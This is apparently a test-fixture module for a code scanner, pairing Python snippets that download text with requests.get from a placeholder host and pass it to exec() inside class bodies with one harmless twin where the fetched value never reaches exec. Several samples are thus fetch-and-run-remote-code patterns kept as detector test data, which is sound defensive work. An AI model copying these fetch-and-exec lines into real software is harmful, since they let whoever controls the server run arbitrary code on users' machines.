"""Ways a value takes through Python and shell: for each a hostile sample, and the twin that takes another way."""

from inspection.rules.sample import Sample, py

_GET = "requests.get('https://a.invalid').text"

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "in the body of a class": py(
            f"import requests\nclass Level:\n    if True:\n        t = {_GET}\n    exec(t)\n", line=5
        ),
        "an annotated member of a class": py(
            f"import requests\nclass Level:\n    text: str = {_GET}\n    def show(self): exec(self.text)\n", line=4
        ),
        "a class within a class": py(
            f"import requests\nclass Game:\n    class Level:\n        text = {_GET}\nexec(Game.Level.text)\n", line=5
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a name of a class body is no name outside": {
            "app.py": f"import requests\nclass Level:\n    t = {_GET}\nt = 'x = 1'\nexec(t)\n"
        },
    },
}
